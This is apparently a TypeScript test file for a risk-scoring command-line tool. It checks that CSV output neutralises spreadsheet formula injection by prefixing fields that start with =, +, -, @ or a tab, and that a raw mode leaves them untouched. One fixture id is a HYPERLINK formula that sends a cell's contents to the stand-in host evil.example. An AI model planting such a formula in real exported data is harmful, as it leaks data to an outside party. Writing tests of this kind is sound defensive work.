/**
 * `score --format csv` and spreadsheets: a field that starts with "=", "+", "-", "@", a tab or a carriage
 * return (OWASP's list) is written with a leading "'", so a spreadsheet shows it as text instead of
 * evaluating it; `--raw-csv` writes every field exactly as it is. Either way the CSV reads back with
 * the same rows (RFC 4180 quoting).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { runCli } from '../helpers/cli';

const d = mkdtempSync(join(tmpdir(), 'rr-csv-injection-'));
const at = (f: string) => join(d, f);
const IDS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', 'plain, with a comma', 'J-0042', '"quoted"'];
writeFileSync(at('cases.csv'), `id,x\n${IDS.map((id, i) => `"${id.replace(/"/g, '""')}",${i}`).join('\n')}\n`);
writeFileSync(at('m.riskmodel.json'), JSON.stringify({ kind: 'logistic', intercept: -1, coefficients: { x: 0.5 } }));
writeFileSync(at('p.riskreview.json'), JSON.stringify({ model: 'm.riskmodel.json', data: 'cases.csv', idColumn: 'id', bands: [{ label: '=1+1', below: 0.5 }, { label: '\tHigh' }] }));

test('formula-like ids and bands get a leading quote; the rest is untouched', () => {
  const r = runCli(['score', '--project', at('p.riskreview.json'), '--format', 'csv']);
  assert.equal(r.code, 0, r.stderr);
  const rows = parse(r.stdout, { columns: true }) as { caseId: string; band: string }[];
  assert.deepEqual(
    rows.map((row) => row.caseId),
    IDS.map((id) => (/^[=+\-@]/.test(id) ? `'${id}` : id)),
  );
  assert.deepEqual([...new Set(rows.map((row) => row.band))].sort(), ["'\tHigh", "'=1+1"]);
  for (const line of r.stdout.split('\n').slice(1)) assert.doesNotMatch(line, /^"?[=+\-@\t\r]/, line);
});

test('--raw-csv writes every field as it is', () => {
  const r = runCli(['score', '--project', at('p.riskreview.json'), '--format', 'csv', '--raw-csv']);
  assert.equal(r.code, 0, r.stderr);
  const rows = parse(r.stdout, { columns: true }) as { caseId: string; band: string }[];
  assert.deepEqual(rows.map((row) => row.caseId), IDS);
  assert.deepEqual([...new Set(rows.map((row) => row.band))].sort(), ['\tHigh', '=1+1']);
});

test('JSON formats are not changed by the CSV rule', () => {
  const r = runCli(['score', '--project', at('p.riskreview.json'), '--format', 'jsonl']);
  assert.deepEqual(r.stdout.trim().split('\n').map((l) => JSON.parse(l).caseId), IDS);
});
